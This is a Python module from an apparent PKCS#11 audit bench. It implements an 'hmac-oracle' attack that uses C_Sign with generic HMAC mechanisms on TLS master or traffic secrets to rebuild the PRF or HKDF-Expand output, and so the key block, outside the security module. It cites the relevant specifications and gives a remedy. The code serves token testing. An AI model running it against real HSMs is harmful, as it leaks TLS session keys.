"""hmac-oracle: HMAC under the master or a traffic secret, by C_Sign, rebuilds the PRF or HKDF-Expand outside the module."""

from collections.abc import Iterable, Sequence

from keyfence.cryptoki import Mechanism
from keyfence.cryptoki.constants import CKM
from keyfence.cryptoki.params import MacGeneral

from .base import Attack, Bench, Technique
from .oracle import OracleAttack, Way
from .targets import rests_on_hmac
from .victim import Kind, Victim


class HmacOracle(Technique):
    id = "hmac-oracle"
    title = "HMAC under a TLS secret"
    summary = (
        "TLS 1.2's PRF and HKDF-Expand are nothing but HMAC under the whole secret. A secret that C_Sign takes for a generic "
        "HMAC mechanism gives every block of its key block away, two calls per digest length (TLS 1.2) or one (TLS 1.3). "
        "TLS 1.0 keys its PRF with the secret's halves, and is not reached by this."
    )
    section = "PKCS#11 3.2 §6.22 (HMAC), §6.40.4 (CKA_ALLOWED_MECHANISMS of a TLS 1.2 master secret)"
    references = ("RFC 2104", "RFC 5246 §5", "RFC 5869 §2.3", "RFC 8446 §7.1")
    remedy = (
        "Honour CKA_ALLOWED_MECHANISMS, which CKM_TLS12_MASTER_KEY_DERIVE sets on master secrets, and give CKA_SIGN to no "
        "secret that derives; Finished values are CKM_TLS12_MAC's."
    )
    kinds = frozenset({Kind.TLS12, Kind.TLS13, Kind.WTLS, Kind.SEPARATED})

    def attacks(self, victim: Victim) -> Iterable[Attack]:
        if not rests_on_hmac(victim):
            return []
        plain = HmacAttack(victim)
        return [plain, GeneralHmacAttack(victim)]


class HmacAttack(OracleAttack):
    """CKM_*_HMAC."""

    def __init__(self, victim: Victim) -> None:
        super().__init__(victim, 0)
        self.mechanism = self.pick()

    def pick(self) -> int:
        """The mechanism of the victim's hash."""
        return int(self.target.prf_hash.ckm_hmac)

    def build(self) -> Mechanism:
        """The mechanism with its parameter, at full length."""
        return Mechanism(self.mechanism)

    def ways(self, bench: Bench) -> Sequence[Way]:
        return [Way(f"C_Sign({self.name})", lambda secret, data: bench.session.sign(self.build(), secret, data))]


class GeneralHmacAttack(HmacAttack):
    """CKM_*_HMAC_GENERAL, asked for the whole digest."""

    def pick(self) -> int:
        return int(CKM[f"{self.target.prf_hash.ckm_hmac.name}_GENERAL"])

    def build(self) -> Mechanism:
        return Mechanism(self.mechanism, MacGeneral(self.target.prf_hash.digest_size))
